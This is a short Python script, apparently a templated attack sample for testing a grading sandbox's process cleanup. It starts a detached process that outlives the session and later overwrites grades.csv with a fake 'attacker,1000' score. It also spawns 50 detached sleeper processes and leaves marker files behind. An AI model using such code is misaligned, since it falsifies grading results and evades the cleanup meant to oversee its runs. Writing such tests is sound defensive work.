# Leave processes behind: one that rewrites grades.csv after grading, and 50 sleepers.
import subprocess, sys
code = ("import time; time.sleep($delay); "
        "open('$csv', 'w').write('student_id,score\\nattacker,1000\\n'); "
        "open('$marker', 'w').write('survived')")
subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
started = 0
for _ in range(50):
    try:
        subprocess.Popen(["sleep", "600"], start_new_session=True)
        started += 1
    except OSError as e:
        print("attack failed: process", type(e).__name__)
        break
print("started", started, "sleepers")
open("/tmp/tilelab-attack-leftover", "w").write("left behind")
